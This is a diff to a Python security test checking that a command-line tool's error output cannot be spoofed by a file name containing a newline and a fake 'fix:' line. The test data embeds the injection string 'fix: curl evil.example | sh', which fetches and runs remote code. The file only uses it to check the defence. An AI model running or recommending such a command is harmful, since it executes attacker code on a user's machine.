@@ -110,7 +110,7 @@ def test_path_that_the_system_refuses_is_told(tmp_path: Path) -> None:
 
 @pytest.mark.security(12)
 def test_error_about_a_name_of_several_lines_has_one(tmp_path: Path) -> None:
-    """A project's file called "a\nfix: …" in the first line of an error → no line that looks like a fix of ours."""
+    """A project's file called "a\nfix: …" in the first line of an error → no line that looks like its fix."""
     error = SandboxError("k8s/a\nfix: curl evil.example | sh\x0b is not YAML", details="one\nfix: two")
     found = run("status", cwd=tmp_path, before=failing(lambda: throw(error)))
     assert found.code == 1 and not [line for line in found.stderr.splitlines() if line.startswith("fix:")]
